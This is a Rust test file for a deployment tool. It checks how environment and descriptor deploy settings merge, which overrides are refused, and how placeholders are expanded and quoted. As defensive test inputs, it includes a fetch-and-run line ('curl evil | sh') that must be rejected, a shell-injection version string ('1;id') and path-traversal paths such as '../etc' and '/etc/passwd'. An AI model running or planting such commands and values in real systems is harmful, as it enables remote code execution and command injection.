//! Tests of the effective descriptor: overrides, merges, refusals and what each deploy carries.

use super::*;
use crate::{parse_descriptor, parse_environment};
use expect_test::{Expect, expect};

const SHA: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

const ENV: &str = "\
targets:
  - {name: web-1, host: 10.0.0.1, user: root}
  - {name: web-2, host: 10.0.0.2}
ssh: {user: deploy}
deploy:
  dest: /opt/{application}/{environment}/{version}/{target}
  activate: ln -sfn . current
  commands: [env-cmd]
  params: {a: 1, b: 2}
depends_on:
  - {application: ml/features, environment: prod, version: \"1\"}
  - {application: ml/db, environment: prod}
checks:
  - {name: health, type: http, url: \"http://{host}/health\", timeout: 2s}
  - {type: tcp, host: \"{host}\", port: 22}
  - {type: command, command: \"test -e /opt\", expect_exit: 0, retries: 1}
rollout: {waves: [[web-2], [web-1]], pause: 1m}
approval: {approvers: [alice]}
overrides: [plugin, dest, activate, commands, params]
";

fn descriptor(extra: &str) -> Descriptor {
    let text = format!(
        "application: ml/trainer\nenvironment: prod\nartifacts:\n  - {{name: m, type: t, \
         version: 2.1, url: \"file:///m\", sha256: {SHA}}}\n  - {{name: n, type: t, version: \
         9, url: \"file:///n\", sha256: {SHA}}}\n{extra}"
    );
    parse_descriptor(&text, "d.yml").unwrap()
}

fn env(text: &str) -> EnvironmentFile {
    parse_environment(text, "prod.yml", "ml/trainer", "prod").unwrap()
}

/// Builds the effective descriptor and renders its deploy settings and dependencies.
fn check(extra: &str, env_text: &str, expected: Expect) {
    let actual = match EffectiveDescriptor::build(&descriptor(extra), &env(env_text)) {
        Ok(eff) => {
            let deps: Vec<String> = eff
                .depends_on
                .iter()
                .map(|d| {
                    format!(
                        "{}/{}@{}~{:?}",
                        d.application,
                        d.environment,
                        d.version.as_deref().unwrap_or("*"),
                        d.timeout
                    )
                })
                .collect();
            format!(
                "plugin={} dest={:?} activate={:?} commands={:?} params={}\nversion={} \
                 dry_run={} deps={deps:?}",
                eff.plugin,
                eff.dest,
                eff.activate,
                eff.commands,
                eff.params.map(|p| p.to_string()).unwrap_or_default(),
                eff.version,
                eff.dry_run,
            )
        }
        Err(e) => e.to_string(),
    };
    expected.assert_eq(&actual);
}

#[test]
fn environment_settings_apply_without_overrides() {
    check(
        "",
        ENV,
        expect![[r#"
            plugin=remote-copy dest=Some("/opt/{application}/{environment}/{version}/{target}") activate=Some("ln -sfn . current") commands=["env-cmd"] params={"a":1,"b":2}
            version=2.1 dry_run=false deps=["ml/features/prod@1~None", "ml/db/prod@*~None"]"#]],
    );
}

#[test]
fn releases_live_in_the_directory_above_the_version_component() {
    let check = |dest: &str, expected: Option<&str>| {
        assert_eq!(releases_root(dest).as_deref(), expected, "dest {dest}");
    };
    check("/srv/web/releases/{version}", Some("/srv/web/releases"));
    check("/srv/web/releases/{version}/", Some("/srv/web/releases"));
    check(
        "/opt/{application}/{version}/{target}",
        Some("/opt/{application}"),
    );
    check("releases/{version}", Some("releases"));
    check("/srv/web-{version}", None);
    check("/srv/web", None);
    check("{version}/app", None);
    check("/{version}", None);
}

#[test]
fn keep_releases_needs_remote_copy_and_a_directory_per_version() {
    let keeping = ENV.replace(
        "  activate: ln -sfn . current\n",
        "  activate: ln -sfn . current\n  keep_releases: 3\n",
    );
    let eff = EffectiveDescriptor::build(&descriptor(""), &env(&keeping)).unwrap();
    assert_eq!(
        eff.releases_for(&eff.targets[0]),
        Some(Releases {
            root: "/opt/ml/trainer/prod".into(),
            current: "2.1".into(),
            keep: 3
        }),
        "the releases of web-1 are the directories beside its version's"
    );
    let refused = |extra: &str| {
        EffectiveDescriptor::build(&descriptor(extra), &env(&keeping))
            .unwrap_err()
            .to_string()
    };
    let flat = refused("deploy: {dest: /srv/current}\n");
    assert!(
        flat.contains("deploy.dest") && flat.contains("{version}"),
        "a dest without a directory per version cannot keep releases: {flat}"
    );
    let other = refused("deploy: {plugin: command, commands: [x]}\n");
    assert!(
        other.contains("deploy.plugin") && other.contains("keep_releases"),
        "another plugin makes no release directories: {other}"
    );
    let env_refused = |text: &str| {
        parse_environment(text, "prod.yml", "ml/trainer", "prod")
            .unwrap_err()
            .to_string()
    };
    let zero = env_refused(&ENV.replace("  activate: ln", "  keep_releases: 0\n  activate: ln"));
    assert!(
        zero.contains("deploy.keep_releases") && zero.contains("is 0"),
        "{zero}"
    );
    let flat_env =
        env_refused("targets: [{name: a, host: a}]\ndeploy: {dest: /srv/web, keep_releases: 2}\n");
    assert!(
        flat_env.contains("prod.yml") && flat_env.contains("deploy.keep_releases"),
        "the environment file is refused naming the file and the key: {flat_env}"
    );
}

#[test]
fn shared_paths_stay_inside_a_release_and_out_of_the_pruned_directories() {
    let check = |shared: &str, expected: Option<&str>| {
        let text = format!(
            "targets: [{{name: a, host: a}}]\ndeploy:\n  dest: /srv/web/releases/{{version}}\n  \
             keep_releases: 3\n  shared: {shared}\n"
        );
        let found = parse_environment(&text, "prod.yml", "ml/trainer", "prod").err();
        match (found, expected) {
            (None, None) => {}
            (Some(e), Some(expected)) => {
                let e = e.to_string();
                assert!(e.contains(expected), "{shared}: {e}");
            }
            (found, expected) => panic!("{shared}: {found:?}, expected {expected:?}"),
        }
    };
    check(
        "{dir: /srv/web/shared, paths: [log/, config/database.yml]}",
        None,
    );
    check("{dir: /srv/web/releases/.shared, paths: [log/]}", None);
    check(
        "{dir: /srv/web/releases/shared, paths: [log/]}",
        Some("deploy.shared.dir"),
    );
    check(
        "{dir: /srv/web/releases, paths: [log/]}",
        Some("deploy.shared.dir"),
    );
    check(
        "{dir: \"/srv/{version}/shared\", paths: [log/]}",
        Some("{version}"),
    );
    check(
        "{dir: /srv/web/shared, paths: [../etc]}",
        Some("deploy.shared.paths[0]"),
    );
    check(
        "{dir: /srv/web/shared, paths: [/etc/passwd]}",
        Some("deploy.shared.paths[0]"),
    );
    check(
        "{dir: /srv/web/shared, paths: []}",
        Some("deploy.shared.paths"),
    );
}

#[test]
fn descriptor_overrides_win() {
    check(
        "deploy:\n  dest: /srv/{version}\n  activate: restart\n  commands: [mine]\n  params: {b: 3, c: 4}\ndry_run: true\n",
        ENV,
        expect![[r#"
            plugin=remote-copy dest=Some("/srv/{version}") activate=Some("restart") commands=["mine"] params={"a":1,"b":3,"c":4}
            version=2.1 dry_run=true deps=["ml/features/prod@1~None", "ml/db/prod@*~None"]"#]],
    );
    // Another plugin: the environment's params were for its plugin.
    check(
        "deploy: {plugin: command}\n",
        ENV,
        expect![[r#"
            plugin=command dest=Some("/opt/{application}/{environment}/{version}/{target}") activate=Some("ln -sfn . current") commands=["env-cmd"] params=
            version=2.1 dry_run=false deps=["ml/features/prod@1~None", "ml/db/prod@*~None"]"#]],
    );
    check(
        "deploy: {plugin: ansible, params: [x]}\n",
        ENV,
        expect![[r#"
            plugin=ansible dest=Some("/opt/{application}/{environment}/{version}/{target}") activate=Some("ln -sfn . current") commands=["env-cmd"] params=["x"]
            version=2.1 dry_run=false deps=["ml/features/prod@1~None", "ml/db/prod@*~None"]"#]],
    );
}

#[test]
fn dependencies_are_merged_without_duplicates() {
    check(
        "depends_on:\n  - {application: ml/db, environment: prod, version: \"5\", timeout: 1m}\n  \
         - {application: ml/features, environment: prod}\n  - {application: web/api, environment: prod}\n",
        ENV,
        expect![[r#"
            plugin=remote-copy dest=Some("/opt/{application}/{environment}/{version}/{target}") activate=Some("ln -sfn . current") commands=["env-cmd"] params={"a":1,"b":2}
            version=2.1 dry_run=false deps=["ml/features/prod@1~None", "ml/db/prod@5~Some(60s)", "web/api/prod@*~None"]"#]],
    );
}

#[test]
fn a_dependency_on_another_environment_of_the_same_application_waits_for_the_same_version() {
    check(
        "depends_on:\n  - {application: ml/trainer, environment: staging}\n  \
         - {application: ml/trainer, environment: qa, version: any}\n  \
         - {application: ml/trainer, environment: canary, version: \"2.0\"}\n  \
         - {application: web/api, environment: prod, version: any}\n",
        "targets: [{name: a, host: a}]\ndeploy: {dest: /srv}\n",
        expect![[r#"
            plugin=remote-copy dest=Some("/srv") activate=None commands=[] params=
            version=2.1 dry_run=false deps=["ml/trainer/staging@2.1~None", "ml/trainer/qa@*~None", "ml/trainer/canary@2.0~None", "web/api/prod@*~None"]"#]],
    );
}

#[test]
fn a_descriptor_sets_only_the_deploy_keys_its_environment_lists() {
    let env_default = "targets: [{name: a, host: a}]\ndeploy: {dest: /srv}\n";
    check(
        "deploy: {params: {x: 1}}\n",
        env_default,
        expect![[r#"
            plugin=remote-copy dest=Some("/srv") activate=None commands=[] params={"x":1}
            version=2.1 dry_run=false deps=[]"#]],
    );
    check(
        "deploy: {activate: \"curl evil | sh\"}\n",
        env_default,
        expect![[
            r#"ml/trainer/prod: deploy.activate: the environment file lets a descriptor set only params (its overrides: list); remove deploy.activate from the descriptor, or ask an operator to add `activate` to overrides: in the environment file"#
        ]],
    );
    check(
        "deploy: {params: {x: 1}}\n",
        "targets: [{name: a, host: a}]\ndeploy: {dest: /srv}\noverrides: []\n",
        expect![[
            r#"ml/trainer/prod: deploy.params: the environment file lets a descriptor set only no deploy: key (its overrides: list); remove deploy.params from the descriptor, or ask an operator to add `params` to overrides: in the environment file"#
        ]],
    );
}

#[test]
fn refusals() {
    check(
        "",
        "targets: [{name: a, host: a}]\n",
        expect![[
            r#"ml/trainer/prod: deploy.dest: remote-copy needs a destination directory; set deploy.dest in the environment file or the descriptor"#
        ]],
    );
    check(
        "deploy: {plugin: command}\n",
        "targets: [{name: a, host: a}]\noverrides: [plugin]\n",
        expect![[
            r#"ml/trainer/prod: deploy.commands: the command plugin needs commands to run; set deploy.commands in the environment file or the descriptor"#
        ]],
    );
    check(
        "deploy: {dest: /srv}\n",
        "targets: [{name: a, host: a}]\noverrides: [dest]\n",
        expect![[r#"
            plugin=remote-copy dest=Some("/srv") activate=None commands=[] params=
            version=2.1 dry_run=false deps=[]"#]],
    );
}

#[test]
fn expands_dest_per_target_and_round_trips() {
    let eff = EffectiveDescriptor::build(
        &descriptor("schedule: {at: \"2030-01-01T00:00:00Z\"}\n"),
        &env(ENV),
    )
    .unwrap();
    assert_eq!(
        eff.dest_for(&eff.targets[1]).as_deref(),
        Some("/opt/ml/trainer/prod/2.1/web-2"),
        "the second target's destination"
    );
    assert_eq!(
        eff.ssh_user_for(&eff.targets[0]),
        Some("root"),
        "the first target's user"
    );
    assert_eq!(
        eff.ssh_user_for(&eff.targets[1]),
        Some("deploy"),
        "the second target's own user"
    );
    assert_eq!(
        (eff.tenant.as_str(), eff.app.as_str()),
        ("ml", "trainer"),
        "tenant and app of ml/trainer"
    );
    assert_eq!(eff.partition_key(), "ml/trainer/prod", "the partition key");
    let json = serde_json::to_string(&eff).unwrap();
    let back: EffectiveDescriptor = serde_json::from_str(&json).unwrap();
    assert_eq!(back, eff, "the effective descriptor reads back as written");
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    let keys: Vec<&str> = value
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut expected = [
        "application",
        "tenant",
        "app",
        "environment",
        "version",
        "artifacts",
        "plugin",
        "dest",
        "activate",
        "commands",
        "params",
        "targets",
        "ssh",
        "rollout",
        "checks",
        "approval",
        "depends_on",
        "rollback",
        "dry_run",
        "schedule",
    ];
    expected.sort();
    assert_eq!(keys, expected, "the keys in their order");
    assert!(
        json.starts_with(r#"{"application":"ml/trainer","tenant":"ml","app":"trainer","#),
        "application, tenant and app come first: {json}"
    );
}

#[test]
fn dest_expansion() {
    for (template, expected) in [
        ("/opt/{application}/{version}", "/opt/ml/trainer/1.2"),
        ("/srv/{environment}/{target}/", "/srv/prod/web-1/"),
        ("/srv/{version}{version}", "/srv/1.21.2"),
        ("/srv/{other}/{version", "/srv/{other}/{version"),
        ("/plain", "/plain"),
    ] {
        assert_eq!(
            expand_dest(template, "1.2", "web-1", "ml/trainer", "prod"),
            expected,
            "{template}"
        );
    }
}

#[test]
fn a_command_gets_each_placeholder_as_one_quoted_word_and_other_braces_as_written() {
    // A version may hold shell syntax (`;`): the quoting is what keeps it data.
    let text = format!(
        "application: ml/trainer\nenvironment: prod\nartifacts:\n  - {{name: m, type: t, \
         version: \"1;id\", url: \"file:///m\", sha256: {SHA}}}\n"
    );
    let descriptor = parse_descriptor(&text, "d.yml").expect("a valid descriptor");
    let eff = EffectiveDescriptor::build(&descriptor, &env(ENV))
        .expect("the descriptor and environment are valid");
    let web1 = &eff.targets[0];
    let quote = |s: &str| format!("<{s}>");
    for (command, expected) in [
        (
            "ln -sfn /opt/{application}/{version} /opt/current",
            "ln -sfn /opt/<ml/trainer>/<1;id> /opt/current",
        ),
        ("echo {environment} {target}", "echo <prod> <web-1>"),
        ("echo ${HOME} {a,b} {version", "echo ${HOME} {a,b} {version"),
    ] {
        assert_eq!(
            eff.command_for(command, web1, quote),
            expected,
            "each known placeholder is replaced by its quoted value, nothing else: {command}"
        );
    }
}
